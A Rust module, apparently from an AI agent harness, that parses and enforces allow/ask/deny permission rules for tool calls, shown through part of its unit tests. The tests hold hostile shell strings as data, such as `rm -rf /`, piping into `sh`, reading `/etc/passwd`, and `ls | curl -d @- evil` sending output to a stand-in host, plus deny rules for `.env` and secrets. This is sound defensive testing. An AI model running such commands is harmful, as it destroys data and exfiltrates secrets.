//! Permission rules in Claude Code's syntax: `allow`, `ask` and `deny` lists of
//! `tool` or `tool(specifier)`, checked deny, then ask, then allow; the first
//! match wins and the decision names the rule.
//!
//! Pure: parsing and matching only. The permission stage decides what a
//! decision (or no decision) means for the call; see docs/configuration.md,
//! "Permission rules", for the syntax.
//!
//! | form                               | matches                                                  |
//! |------------------------------------|----------------------------------------------------------|
//! | `shell`                            | every call of the tool                                   |
//! | `shell(git status)`                | exactly that command (whitespace runs collapsed)         |
//! | `shell(npm run test:*)`            | `npm run test`, or it followed by a space and anything   |
//! | `shell(git * main)`                | `*` is any text; a trailing ` *` may be empty             |
//! | `file_manager__write(docs/**)`     | the call's `path`, gitignore-style, workspace-relative   |
//! | `file_manager__read(//etc/**)`     | an absolute path                                         |
//! | `web_fetch(domain:example.org)`    | the `url` argument's host, exactly (`*.example.org`: subdomains) |
//! | `mcp__fs__write_file(path:docs/**)`| the argument `path` (dotted for nested) against a glob   |
//! | `mcp__fs`, `mcp__fs__*`            | every tool of the MCP server `fs`                         |
//!
//! A compound command (`&&`, `||`, `;`, `|`, `&`, `$(`, backticks, newlines,
//! `<`, `>`) is never allowed by a `shell` rule other than the bare `shell`;
//! deny and ask rules look at every piece of it, so `ls && rm -rf x` is caught
//! by `deny: [shell(rm:*)]`. Rules are a convenience, not a boundary: the
//! sandbox is what confines a command.

use globset::{GlobBuilder, GlobMatcher};
use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::fmt;
use std::path::{Component, Path, PathBuf};

/// What a rule does when it matches.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Behavior {
    /// Run without asking.
    Allow,
    /// Ask the user, whatever the mode.
    Ask,
    /// Refuse.
    Deny,
}

impl Behavior {
    /// `allow`, `ask` or `deny`.
    pub fn as_str(self) -> &'static str {
        match self {
            Behavior::Allow => "allow",
            Behavior::Ask => "ask",
            Behavior::Deny => "deny",
        }
    }
}

/// Where a rule came from (for the record, and for narrowing).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Source {
    /// The deployment's config.
    Deployment,
    /// An agent's frontmatter.
    Agent,
    /// The ChatRequest.
    Request,
    /// An approval answered as a rule, kept for the session.
    Session,
}

impl Source {
    /// The name used in records.
    pub fn as_str(self) -> &'static str {
        match self {
            Source::Deployment => "deployment",
            Source::Agent => "agent",
            Source::Request => "request",
            Source::Session => "session",
        }
    }
}

/// The three lists as written in config (`permissions: {allow, ask, deny}`).
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct RuleLists {
    /// Rules that let a call run without asking.
    pub allow: Vec<String>,
    /// Rules that make a call ask.
    pub ask: Vec<String>,
    /// Rules that refuse a call.
    pub deny: Vec<String>,
}

/// A rule that does not parse; the message names it.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("permission rule `{rule}`: {reason}")]
pub struct RuleError {
    /// The rule as written.
    pub rule: String,
    /// What is wrong.
    pub reason: String,
}

/// Which tools a rule names.
#[derive(Clone, Debug)]
enum ToolPattern {
    /// One tool.
    Exact(String),
    /// Every tool whose name starts with this (`mcp__fs__*`, or `mcp__fs`).
    Prefix(String),
}

impl ToolPattern {
    fn matches(&self, tool: &str) -> bool {
        match self {
            ToolPattern::Exact(t) => t == tool,
            ToolPattern::Prefix(p) => tool.starts_with(p.as_str()),
        }
    }
}

/// How a `shell` rule matches a command.
#[derive(Clone, Debug)]
enum CommandPattern {
    Exact(String),
    /// `prefix:*`: the prefix alone, or followed by a space.
    Prefix(String),
    Wildcard(Regex),
}

impl CommandPattern {
    fn matches(&self, cmd: &str) -> bool {
        match self {
            CommandPattern::Exact(c) => c == cmd,
            CommandPattern::Prefix(p) => {
                cmd == p
                    || cmd
                        .strip_prefix(p.as_str())
                        .is_some_and(|r| r.starts_with(' '))
            }
            CommandPattern::Wildcard(re) => re.is_match(cmd),
        }
    }
}

/// The part between the parentheses.
#[derive(Clone, Debug)]
enum Specifier {
    /// `(*)` or no parentheses: every call.
    Any,
    Command(CommandPattern),
    /// Host, lowercase; `subdomains`: `*.host` (the host itself excluded).
    Domain {
        host: String,
        subdomains: bool,
    },
    /// Gitignore-style path globs; `absolute`: they match absolute paths (`//…`).
    Path {
        globs: Vec<GlobMatcher>,
        absolute: bool,
    },
    /// A named argument (dotted for nested objects) against a glob.
    Arg {
        key: Vec<String>,
        glob: GlobMatcher,
    },
}

/// One parsed rule.
#[derive(Clone, Debug)]
pub struct Rule {
    text: String,
    source: Source,
    tool: ToolPattern,
    spec: Specifier,
}

/// The tool call a rule is checked against.
#[derive(Clone, Copy, Debug)]
pub struct Call<'a> {
    /// The canonical tool name (after alias resolution).
    pub tool: &'a str,
    /// The validated arguments.
    pub args: &'a Value,
    /// The workspace root that relative paths are resolved against.
    pub workspace: &'a Path,
}

/// Which rule decided, and what it decided.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Decision {
    /// Allow, ask or deny.
    pub behavior: Behavior,
    /// The rule as written.
    pub rule: String,
    /// Where it came from.
    pub source: Source,
}

impl fmt::Display for Decision {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} rule `{}` ({})",
            self.behavior.as_str(),
            self.rule,
            self.source.as_str()
        )
    }
}

/// The operators that make a command compound (or redirect it).
fn is_compound(cmd: &str) -> bool {
    cmd.contains("$(")
        || cmd
            .chars()
            .any(|c| matches!(c, ';' | '|' | '&' | '`' | '\n' | '\r' | '<' | '>'))
}

fn normalize(cmd: &str) -> String {
    cmd.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Wrappers that run the rest of the line as a command, skipped when deny
/// and ask rules look for what really runs.
const WRAPPERS: &[&str] = &["sudo", "env", "command", "exec", "nohup", "time", "builtin"];

/// Every simple command a deny or ask rule should see: the pieces between
/// operators (quotes are not understood: an operator in quotes splits too,
/// which can only make a deny match more often), without leading variable
/// assignments and wrappers.
fn pieces(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for raw in cmd.split(|c: char| {
        matches!(
            c,
            ';' | '|' | '&' | '`' | '\n' | '\r' | '<' | '>' | '(' | ')' | '{' | '}'
        )
    }) {
        let raw = raw.strip_prefix('$').unwrap_or(raw);
        let mut words: Vec<&str> = raw.split_whitespace().collect();
        while let Some(first) = words.first() {
            let assignment = first.split_once('=').is_some_and(|(k, _)| {
                !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            });
            if assignment || WRAPPERS.contains(first) {
                words.remove(0);
            } else {
                break;
            }
        }
        if !words.is_empty() {
            out.push(words.join(" "));
        }
    }
    out
}

fn glob(pattern: &str) -> Result<GlobMatcher, String> {
    GlobBuilder::new(pattern)
        .literal_separator(true)
        .build()
        .map(|g| g.compile_matcher())
        .map_err(|e| e.to_string())
}

fn command_pattern(spec: &str) -> Result<CommandPattern, String> {
    let spec = normalize(spec);
    if let Some(prefix) = spec.strip_suffix(":*") {
        if prefix.contains('*') {
            return Err("`:*` is a prefix form: no other `*` before it".into());
        }
        if prefix.is_empty() {
            return Err("empty prefix before `:*`".into());
        }
        return Ok(CommandPattern::Prefix(prefix.to_owned()));
    }
    if !spec.contains('*') {
        return Ok(CommandPattern::Exact(spec));
    }
    let parts: Vec<&str> = spec.split('*').collect();
    // `git *`: the trailing argument part may be empty (matches `git` too).
    let optional_tail = spec.ends_with(" *") && parts.len() == 2;
    let re = if optional_tail {
        format!("^{}(?: .*)?$", regex::escape(parts[0].trim_end()))
    } else {
        let body: Vec<String> = parts.iter().map(|p| regex::escape(p)).collect();
        format!("^{}$", body.join(".*"))
    };
    Regex::new(&re)
        .map(CommandPattern::Wildcard)
        .map_err(|e| e.to_string())
}

fn path_specifier(spec: &str) -> Result<Specifier, String> {
    if spec.starts_with('!') {
        return Err("negated patterns (`!…`) are not supported: write a deny or ask rule".into());
    }
    if spec.starts_with("~/") {
        return Err(
            "`~/` paths are not supported: tools work in the workspace; use `//absolute/path`"
                .into(),
        );
    }
    let (absolute, rest) = match spec.strip_prefix("//") {
        Some(rest) => (true, format!("/{rest}")),
        None => (false, spec.to_owned()),
    };
    let dir_only = rest.ends_with('/') && rest.len() > 1;
    let body = rest.trim_end_matches('/');
    let mut patterns = Vec::new();
    if absolute {
        patterns.push(body.to_owned());
    } else if let Some(anchored) = body.strip_prefix('/') {
        patterns.push(anchored.to_owned());
    } else if body.contains('/') {
        patterns.push(body.to_owned());
    } else {
        // No slash: a name at any depth, as in .gitignore.
        patterns.push(format!("**/{body}"));
    }
    // A directory's pattern covers what is beneath it.
    let beneath: Vec<String> = patterns.iter().map(|p| format!("{p}/**")).collect();
    if dir_only {
        patterns = beneath;
    } else {
        patterns.extend(beneath);
    }
    let globs = patterns
        .iter()
        .map(|p| glob(p))
        .collect::<Result<Vec<_>, _>>()?;
    Ok(Specifier::Path { globs, absolute })
}

fn arg_key(spec: &str) -> Option<(&str, &str)> {
    let (key, rest) = spec.split_once(':')?;
    let mut chars = key.chars();
    let ok = chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'));
    ok.then_some((key, rest))
}

fn is_shell(tool: &str) -> bool {
    tool == "shell"
}

impl Rule {
    /// Parses one rule.
    pub fn parse(text: &str, source: Source) -> Result<Rule, RuleError> {
        let err = |reason: String| RuleError {
            rule: text.to_owned(),
            reason,
        };
        let trimmed = text.trim();
        let (name, spec) = match trimmed.find('(') {
            None => (trimmed, None),
            Some(i) => {
                let inner = trimmed[i + 1..]
                    .strip_suffix(')')
                    .ok_or_else(|| err("the specifier must end with `)`".into()))?;
                (&trimmed[..i], Some(inner))
            }
        };
        if name.is_empty()
            || !name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '*'))
        {
            return Err(err(
                "a tool name has letters, digits, `_`, `-` (and `*` at the end)".into(),
            ));
        }
        // Claude Code's name for the shell, so pasted settings work.
        let name = if name == "Bash" { "shell" } else { name };
        let tool = if let Some(prefix) = name.strip_suffix('*') {
            if prefix.contains('*') {
                return Err(err("`*` may only end a tool name".into()));
            }
            ToolPattern::Prefix(prefix.to_owned())
        } else if name.contains('*') {
            return Err(err("`*` may only end a tool name".into()));
        } else if name.starts_with("mcp__") && name.matches("__").count() == 1 {
            // `mcp__server`: every tool of that server.
            ToolPattern::Prefix(format!("{name}__"))
        } else {
            ToolPattern::Exact(name.to_owned())
        };
        let spec = match spec.map(str::trim) {
            None | Some("*") => Specifier::Any,
            Some("") => {
                return Err(err(
                    "empty specifier: write the bare tool name to match every call".into(),
                ));
            }
            Some(s) if is_shell(name) => Specifier::Command(command_pattern(s).map_err(err)?),
            Some(s) if s.starts_with("domain:") => {
                let host = s["domain:".len()..]
                    .trim()
                    .trim_end_matches('.')
                    .to_ascii_lowercase();
                let (host, subdomains) = match host.strip_prefix("*.") {
                    Some(h) => (h.to_owned(), true),
                    None => (host, false),
                };
                if host.is_empty() || host.contains(['/', ':', '*', ' ']) {
                    return Err(err("domain: takes a host name, e.g. domain:example.org or domain:*.example.org".into()));
                }
                Specifier::Domain { host, subdomains }
            }
            Some(s) => match arg_key(s) {
                Some((key, pattern)) => Specifier::Arg {
                    key: key.split('.').map(str::to_owned).collect(),
                    glob: glob(pattern).map_err(err)?,
                },
                None => path_specifier(s).map_err(err)?,
            },
        };
        Ok(Rule {
            text: trimmed.to_owned(),
            source,
            tool,
            spec,
        })
    }

    /// The rule that matches every call of exactly `tool` (an
    /// allow-for-session grant of a whole tool).
    pub fn whole_tool(tool: &str, source: Source) -> Rule {
        Rule {
            text: tool.to_owned(),
            source,
            tool: ToolPattern::Exact(tool.to_owned()),
            spec: Specifier::Any,
        }
    }

    /// Whether the rule names exactly `tool` (not a prefix such as
    /// `mcp__fs__*`, which could reach other tools).
    pub fn names_exactly(&self, tool: &str) -> bool {
        matches!(&self.tool, ToolPattern::Exact(t) if t == tool)
    }

    /// The rule as written.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// Where it came from.
    pub fn source(&self) -> Source {
        self.source
    }

    /// Whether the rule matches `call` when it sits in the `behavior` list.
    pub fn matches(&self, call: &Call<'_>, behavior: Behavior) -> bool {
        if !self.tool.matches(call.tool) {
            return false;
        }
        match &self.spec {
            Specifier::Any => true,
            Specifier::Command(p) => {
                let Some(cmd) = call.args.get("command").and_then(Value::as_str) else {
                    return false;
                };
                match behavior {
                    Behavior::Allow => !is_compound(cmd) && p.matches(&normalize(cmd)),
                    Behavior::Ask | Behavior::Deny => {
                        p.matches(&normalize(cmd)) || pieces(cmd).iter().any(|c| p.matches(c))
                    }
                }
            }
            Specifier::Domain { host, subdomains } => {
                let Some(h) = call
                    .args
                    .get("url")
                    .and_then(Value::as_str)
                    .and_then(|u| url::Url::parse(u.trim()).ok())
                    .and_then(|u| {
                        u.host_str()
                            .map(|h| h.trim_end_matches('.').to_ascii_lowercase())
                    })
                else {
                    return false;
                };
                if *subdomains {
                    h.strip_suffix(host.as_str())
                        .is_some_and(|rest| rest.len() > 1 && rest.ends_with('.'))
                } else {
                    h == *host
                }
            }
            Specifier::Path { globs, absolute } => {
                let Some((rel, abs)) = call_path(call) else {
                    return false;
                };
                if *absolute {
                    globs.iter().any(|g| g.is_match(&abs))
                } else {
                    rel.is_some_and(|r| globs.iter().any(|g| g.is_match(&r)))
                }
            }
            Specifier::Arg { key, glob } => {
                let mut v = call.args;
                for k in key {
                    match v.get(k) {
                        Some(next) => v = next,
                        None => return false,
                    }
                }
                match v {
                    Value::String(s) => glob.is_match(s),
                    Value::Number(_) | Value::Bool(_) => glob.is_match(v.to_string()),
                    _ => false,
                }
            }
        }
    }
}

/// Argument names that hold the path a file tool works on.
const PATH_ARGS: &[&str] = &["path", "file_path", "notebook_path"];

/// Lexical normalization: `.` dropped, `..` pops (never above the root).
fn lexical(p: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for c in p.components() {
        match c {
            Component::CurDir => {}
            Component::ParentDir => {
                out.pop();
            }
            other => out.push(other.as_os_str()),
        }
    }
    out
}

/// The call's path: workspace-relative when inside the workspace, and absolute.
fn call_path(call: &Call<'_>) -> Option<(Option<PathBuf>, PathBuf)> {
    let raw = PATH_ARGS
        .iter()
        .find_map(|k| call.args.get(*k).and_then(Value::as_str))?;
    let ws = lexical(call.workspace);
    let abs = lexical(&ws.join(raw));
    let rel = abs.strip_prefix(&ws).ok().map(Path::to_path_buf);
    Some((rel, abs))
}

/// Checks the rule an approval was answered with before it is kept for the
/// session: it parses, names exactly the approved call's tool (no prefix
/// such as `mcp__fs__*` reaching other tools) and matches the approved call
/// as an allow rule. Returns the rule as written. The runner checks every
/// rule it keeps so; the orchestrator checks first where it holds the call,
/// so that a client hears why while its question is still open.
pub fn session_grant(text: &str, call: &Call<'_>) -> Result<String, String> {
    let rule = Rule::parse(text, Source::Session).map_err(|e| e.to_string())?;
    if !rule.names_exactly(call.tool) {
        return Err(format!(
            "the rule `{}` must name the approved tool `{}` exactly",
            rule.text(),
            call.tool
        ));
    }
    if !rule.matches(call, Behavior::Allow) {
        return Err(format!(
            "the rule `{}` does not match the approved call",
            rule.text()
        ));
    }
    Ok(rule.text().to_owned())
}

/// The rules of a deployment, possibly narrowed by a request.
#[derive(Clone, Debug, Default)]
pub struct Rules {
    deny: Vec<Rule>,
    ask: Vec<Rule>,
    allow: Vec<Rule>,
    /// Allow lists of narrowing sources: an allow stands only if every one of
    /// them also allows the call.
    narrowing: Vec<Vec<Rule>>,
    /// Allow rules checked after `allow` and outside the narrowing (the
    /// session's grants: the user's own answers); deny and ask still win.
    granted: Vec<Rule>,
}

impl Rules {
    /// Parses the three lists of one source; the first bad rule is refused.
    pub fn parse(lists: &RuleLists, source: Source) -> Result<Rules, RuleError> {
        let parse = |list: &[String]| {
            list.iter()
                .map(|t| Rule::parse(t, source))
                .collect::<Result<Vec<_>, _>>()
        };
        Ok(Rules {
            deny: parse(&lists.deny)?,
            ask: parse(&lists.ask)?,
            allow: parse(&lists.allow)?,
            narrowing: Vec::new(),
            granted: Vec::new(),
        })
    }

    /// No rule at all.
    pub fn is_empty(&self) -> bool {
        self.deny.is_empty()
            && self.ask.is_empty()
            && self.allow.is_empty()
            && self.granted.is_empty()
    }

    /// Adds a rule to a list (an approval answered as a rule, for the session).
    pub fn add(&mut self, behavior: Behavior, rule: Rule) {
        match behavior {
            Behavior::Allow => self.allow.push(rule),
            Behavior::Ask => self.ask.push(rule),
            Behavior::Deny => self.deny.push(rule),
        }
    }

    /// Both sets as one, `self`'s rules first: for sources trusted alike
    /// (the deployment and its agents' frontmatter, session grants).
    pub fn union(&self, other: &Rules) -> Rules {
        let cat = |a: &[Rule], b: &[Rule]| a.iter().chain(b).cloned().collect();
        Rules {
            deny: cat(&self.deny, &other.deny),
            ask: cat(&self.ask, &other.ask),
            allow: cat(&self.allow, &other.allow),
            narrowing: self
                .narrowing
                .iter()
                .chain(&other.narrowing)
                .cloned()
                .collect(),
            granted: cat(&self.granted, &other.granted),
        }
    }

    /// `self` narrowed by a less trusted source (a ChatRequest): its deny and
    /// ask rules are added; its allow rules never allow anything by
    /// themselves, but when it has any, a call `self` allows is allowed only
    /// if one of them allows it too (otherwise no rule decides and the
    /// permission mode does). The result is never more permissive than `self`.
    pub fn narrowed_by(&self, other: &Rules) -> Rules {
        let mut out = self.clone();
        out.deny.extend(other.deny.iter().cloned());
        out.ask.extend(other.ask.iter().cloned());
        out.narrowing.extend(other.narrowing.iter().cloned());
        if !other.allow.is_empty() {
            out.narrowing.push(other.allow.clone());
        }
        out
    }

    /// Adds `other`'s rules (deny, ask and allow) such that no narrowing
    /// applies to its allow rules: for the session's grants, which the user
    /// made by answering approvals. Every deny and ask rule still beats them.
    pub fn add_unnarrowed(&mut self, other: &Rules) {
        self.deny.extend(other.deny.iter().cloned());
        self.ask.extend(other.ask.iter().cloned());
        self.granted
            .extend(other.allow.iter().chain(&other.granted).cloned());
    }

    /// Deny, then ask, then allow; the first match wins. None: no rule decides.
    pub fn decide(&self, call: &Call<'_>) -> Option<Decision> {
        let decided = |r: &Rule, behavior| Decision {
            behavior,
            rule: r.text.clone(),
            source: r.source,
        };
        for (list, behavior) in [(&self.deny, Behavior::Deny), (&self.ask, Behavior::Ask)] {
            if let Some(r) = list.iter().find(|r| r.matches(call, behavior)) {
                return Some(decided(r, behavior));
            }
        }
        let within = self
            .narrowing
            .iter()
            .all(|layer| layer.iter().any(|r| r.matches(call, Behavior::Allow)));
        let allowed = if within {
            self.allow.iter().find(|r| r.matches(call, Behavior::Allow))
        } else {
            None
        };
        allowed
            .or_else(|| {
                self.granted
                    .iter()
                    .find(|r| r.matches(call, Behavior::Allow))
            })
            .map(|r| decided(r, Behavior::Allow))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const WS: &str = "/srv/ws";

    fn rules(allow: &[&str], ask: &[&str], deny: &[&str], source: Source) -> Rules {
        let s = |l: &[&str]| l.iter().map(|x| x.to_string()).collect();
        Rules::parse(
            &RuleLists {
                allow: s(allow),
                ask: s(ask),
                deny: s(deny),
            },
            source,
        )
        .unwrap()
    }

    fn decide(r: &Rules, tool: &str, args: Value) -> Option<(Behavior, String)> {
        r.decide(&Call {
            tool,
            args: &args,
            workspace: Path::new(WS),
        })
        .map(|d| (d.behavior, d.rule))
    }

    fn sh(r: &Rules, cmd: &str) -> Option<(Behavior, String)> {
        decide(r, "shell", json!({ "command": cmd }))
    }

    fn d(b: Behavior, rule: &str) -> Option<(Behavior, String)> {
        Some((b, rule.to_owned()))
    }

    use Behavior::{Allow, Ask, Deny};

    #[test]
    fn precedence_is_deny_then_ask_then_allow_and_the_first_match_names_the_rule() {
        let r = rules(
            &["shell(git:*)", "shell", "file_manager__write"],
            &["shell(git push:*)", "shell(git *)"],
            &["shell(git push --force:*)", "shell(git push -f:*)"],
            Source::Deployment,
        );
        let table = [
            ("git status", d(Ask, "shell(git *)")),
            ("git push origin main", d(Ask, "shell(git push:*)")),
            (
                "git push --force origin",
                d(Deny, "shell(git push --force:*)"),
            ),
            ("git push -f", d(Deny, "shell(git push -f:*)")),
            ("ls -la", d(Allow, "shell")),
        ];
        for (cmd, want) in table {
            assert_eq!(sh(&r, cmd), want, "{cmd}");
        }
        assert_eq!(
            decide(&r, "file_manager__write", json!({"path": "a"})),
            d(Allow, "file_manager__write")
        );
        assert_eq!(decide(&r, "file_manager__read", json!({"path": "a"})), None);
        let dec = r
            .decide(&Call {
                tool: "shell",
                args: &json!({"command": "git push -f"}),
                workspace: Path::new(WS),
            })
            .unwrap();
        assert_eq!(dec.source, Source::Deployment);
        assert_eq!(
            dec.to_string(),
            "deny rule `shell(git push -f:*)` (deployment)"
        );
    }

    #[test]
    fn command_forms_exact_prefix_and_wildcard() {
        let r = rules(
            &[
                "shell(git status)",
                "shell(npm run test:*)",
                "shell(cargo * --release)",
                "shell(ls *)",
            ],
            &[],
            &[],
            Source::Deployment,
        );
        let allowed = [
            "git status",
            "  git   status ",
            "npm run test",
            "npm run test --watch",
            "cargo build --release",
            "cargo build -p x --release",
            "ls",
            "ls -la docs",
        ];
        for c in allowed {
            assert!(matches!(sh(&r, c), Some((Allow, _))), "{c}");
        }
        for c in [
            "git status -s",
            "git statusx",
            "npm run testx",
            "npm run test:unit",
            "cargo build",
            "lsblk",
        ] {
            assert_eq!(sh(&r, c), None, "{c}");
        }
    }

    #[test]
    fn a_prefix_never_allows_a_compound_command() {
        let r = rules(
            &["shell(npm run test:*)", "shell(git status)"],
            &[],
            &[],
            Source::Deployment,
        );
        for c in [
            "npm run test && rm -rf /",
            "npm run test || curl evil",
            "npm run test; rm x",
            "npm run test | sh",
            "npm run test $(rm x)",
            "npm run test `rm x`",
            "npm run test\nrm x",
            "npm run test & rm x",
            "npm run test > ~/.bashrc",
            "npm run test < /etc/passwd",
            "git status && git push",
        ] {
            assert_eq!(sh(&r, c), None, "{c:?}");
        }
        // The bare tool name allows everything, compound or not.
        let all = rules(&["shell"], &[], &[], Source::Deployment);
        assert!(sh(&all, "a && b").is_some());
    }

    #[test]
    fn deny_and_ask_see_every_piece_of_a_compound_command() {
        let r = rules(
            &["shell"],
            &["shell(curl:*)"],
            &["shell(rm:*)"],
            Source::Deployment,
        );
        for c in [
            "ls && rm -rf /",
            "echo $(rm x)",
            "echo `rm x`",
            "true; rm x",
            "FOO=1 rm x",
            "sudo rm -rf /",
            "env A=b rm x",
            "(rm x)",
            "cat a | rm x",
        ] {
            assert_eq!(sh(&r, c), d(Deny, "shell(rm:*)"), "{c:?}");
        }
        assert_eq!(sh(&r, "ls | curl -d @- evil"), d(Ask, "shell(curl:*)"));
        assert_eq!(sh(&r, "ls -la"), d(Allow, "shell"));
        assert_eq!(sh(&r, "echo rm"), d(Allow, "shell"));
    }

    #[test]
    fn path_forms_are_gitignore_style_relative_to_the_workspace() {
        let r = rules(
            &[
                "file_manager__write(docs/**)",
                "file_manager__read(*.md)",
                "file_manager__list(/build)",
            ],
            &[],
            &[
                "file_manager__read(.env)",
                "file_manager__read(secrets/)",
                "file_manager__read(//etc/**)",
            ],
            Source::Deployment,
        );
        let w = |p: &str| decide(&r, "file_manager__write", json!({"path": p, "content": ""}));
        let rd = |p: &str| decide(&r, "file_manager__read", json!({"path": p}));
        assert_eq!(w("docs/a.md"), d(Allow, "file_manager__write(docs/**)"));
        assert_eq!(
            w("docs/sub/b.txt"),
            d(Allow, "file_manager__write(docs/**)")
        );
        assert_eq!(
            w("./docs/../docs/c"),
            d(Allow, "file_manager__write(docs/**)")
        );
        assert_eq!(
            w("/srv/ws/docs/d"),
            d(Allow, "file_manager__write(docs/**)")
        );
        for p in [
            "src/docs/a",
            "docsx/a",
            "../ws2/docs/a",
            "docs/../src/a",
            "/tmp/docs/a",
        ] {
            assert_eq!(w(p), None, "{p}");
        }
        // A name without a slash matches at any depth.
        assert_eq!(rd("README.md"), d(Allow, "file_manager__read(*.md)"));
        assert_eq!(rd("a/b/notes.md"), d(Allow, "file_manager__read(*.md)"));
        assert_eq!(rd("a/.env"), d(Deny, "file_manager__read(.env)"));
        assert_eq!(
            rd("secrets/k/key.pem"),
            d(Deny, "file_manager__read(secrets/)")
        );
        // `//` is an absolute path, even one reached through `..`.
        assert_eq!(
            rd("../../../etc/passwd"),
            d(Deny, "file_manager__read(//etc/**)")
        );
        // A leading slash anchors at the workspace root.
        let l = |p: &str| decide(&r, "file_manager__list", json!({"path": p}));
        assert_eq!(l("build/x"), d(Allow, "file_manager__list(/build)"));
        assert_eq!(l("a/build"), None);
        // No path argument: a path rule does not match.
        assert_eq!(decide(&r, "file_manager__write", json!({})), None);
    }

    #[test]
    fn domain_forms_match_the_host_exactly_or_its_subdomains() {
        let r = rules(
            &[
                "web_fetch(domain:example.org)",
                "web_fetch(domain:*.docs.rs)",
            ],
            &[],
            &[],
            Source::Deployment,
        );
        let f = |u: &str| decide(&r, "web_fetch", json!({ "url": u })).map(|x| x.0);
        for u in [
            "https://example.org/x",
            "http://EXAMPLE.org./",
            "https://example.org:8443/a",
            "https://serde.docs.rs/",
        ] {
            assert_eq!(f(u), Some(Allow), "{u}");
        }
        for u in [
            "https://sub.example.org/",
            "https://example.org.evil.com/",
            "https://evilexample.org/",
            "https://docs.rs/",
            "https://xdocs.rs/",
            "not a url",
        ] {
            assert_eq!(f(u), None, "{u}");
        }
        assert_eq!(decide(&r, "web_fetch", json!({})), None);
    }

    #[test]
    fn mcp_tools_and_argument_patterns() {
        let r = rules(
            &[
                "mcp__fs__write_file(path:docs/**)",
                "mcp__git",
                "mcp__db__*",
            ],
            &["mcp__fs__move(options.overwrite:true)"],
            &["mcp__fs__write_file(path:**/*.key)"],
            Source::Deployment,
        );
        let m = |tool: &str, args: Value| decide(&r, tool, args).map(|x| x.0);
        assert_eq!(
            m("mcp__fs__write_file", json!({"path": "docs/a.md"})),
            Some(Allow)
        );
        assert_eq!(m("mcp__fs__write_file", json!({"path": "src/a.rs"})), None);
        assert_eq!(
            m("mcp__fs__write_file", json!({"path": "docs/k/x.key"})),
            Some(Deny)
        );
        assert_eq!(m("mcp__fs__write_file", json!({"path": 3})), None);
        assert_eq!(m("mcp__git__commit", json!({})), Some(Allow));
        assert_eq!(m("mcp__gitx__commit", json!({})), None);
        assert_eq!(m("mcp__db__query", json!({})), Some(Allow));
        assert_eq!(
            m("mcp__fs__move", json!({"options": {"overwrite": true}})),
            Some(Ask)
        );
        assert_eq!(
            m("mcp__fs__move", json!({"options": {"overwrite": false}})),
            None
        );
    }

    #[test]
    fn a_request_can_only_narrow_the_deployment() {
        let deployment = rules(
            &["shell(git:*)", "file_manager__write(docs/**)"],
            &[],
            &["shell(rm:*)"],
            Source::Deployment,
        );
        // No allow list: the deployment's allows stand; its deny is added.
        let req = rules(
            &[],
            &["shell(git commit:*)"],
            &["shell(git push:*)"],
            Source::Request,
        );
        let n = deployment.narrowed_by(&req);
        assert_eq!(sh(&n, "git status"), d(Allow, "shell(git:*)"));
        assert_eq!(sh(&n, "git commit -m x"), d(Ask, "shell(git commit:*)"));
        assert_eq!(sh(&n, "git push"), d(Deny, "shell(git push:*)"));
        assert_eq!(sh(&n, "rm -rf x"), d(Deny, "shell(rm:*)"));

        // An allow list narrows: only what both allow is allowed; the
        // request alone allows nothing (curl, rm).
        let req = rules(
            &["shell(git status)", "shell(curl:*)", "shell(rm:*)"],
            &[],
            &[],
            Source::Request,
        );
        let n = deployment.narrowed_by(&req);
        let table = [
            ("git status", d(Allow, "shell(git:*)")),
            ("git log", None),
            ("curl example.org", None),
            ("rm x", d(Deny, "shell(rm:*)")),
        ];
        for (cmd, want) in table {
            assert_eq!(sh(&n, cmd), want, "{cmd}");
        }
        // Other tools are out of the request's allow list too.
        assert_eq!(
            decide(&n, "file_manager__write", json!({"path": "docs/a"})),
            None
        );

        // Narrowing composes, and never widens.
        let again = n.narrowed_by(&rules(&["shell"], &[], &[], Source::Request));
        assert_eq!(sh(&again, "git status"), d(Allow, "shell(git:*)"));
        assert_eq!(sh(&again, "git log"), None);
        // The same rules as a union (a trusted source) do widen.
        let u = deployment.union(&rules(&["shell(curl:*)"], &[], &[], Source::Agent));
        let dec = u
            .decide(&Call {
                tool: "shell",
                args: &json!({"command": "curl x"}),
                workspace: Path::new(WS),
            })
            .unwrap();
        assert_eq!((dec.behavior, dec.source), (Allow, Source::Agent));
    }

    #[test]
    fn session_grants_are_not_narrowed_but_lose_to_every_deny_and_ask() {
        let deployment = rules(
            &["shell(ls:*)"],
            &["shell(git push:*)"],
            &["shell(rm:*)"],
            Source::Deployment,
        );
        let request = rules(&["shell(ls -la)"], &[], &[], Source::Request);
        let mut r = deployment.narrowed_by(&request);
        let session = rules(
            &["shell(git *)", "shell(rm -f x)", "shell(cat:*)"],
            &[],
            &[],
            Source::Session,
        );
        r.add_unnarrowed(&session);
        assert_eq!(sh(&r, "ls -la"), d(Allow, "shell(ls:*)"));
        // Narrowed away by the request, and no grant covers it.
        assert_eq!(sh(&r, "ls docs"), None);
        // A grant stands outside the narrowing...
        assert_eq!(sh(&r, "git status"), d(Allow, "shell(git *)"));
        assert_eq!(sh(&r, "cat a"), d(Allow, "shell(cat:*)"));
        // ...but deny and ask rules of any source beat it.
        assert_eq!(sh(&r, "git push"), d(Ask, "shell(git push:*)"));
        assert_eq!(sh(&r, "rm -f x"), d(Deny, "shell(rm:*)"));
        // A grant never allows a compound command.
        assert_eq!(sh(&r, "git status && curl x"), None);
        let dec = r
